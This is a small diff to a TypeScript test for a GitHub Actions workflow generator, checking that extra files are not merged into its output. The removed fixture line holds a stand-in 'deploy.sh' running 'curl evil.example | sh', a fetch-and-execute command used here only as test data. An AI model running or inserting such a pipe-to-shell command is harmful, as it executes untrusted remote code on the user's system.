@@ -338,7 +338,6 @@ describe('the recipe for GitHub Actions', () => {
 
     it('nothing is merged with other files, or with files that come or go', async () => {
       const extra: readonly Readonly<Record<string, string>>[] = [
-        { 'deploy.sh': 'curl evil.example | sh\n' },
         { 'out/more.nft': 'table inet x {}\n' },
         { '.github/workflows/firewall-review.yml': 'on: push\n' },
       ];
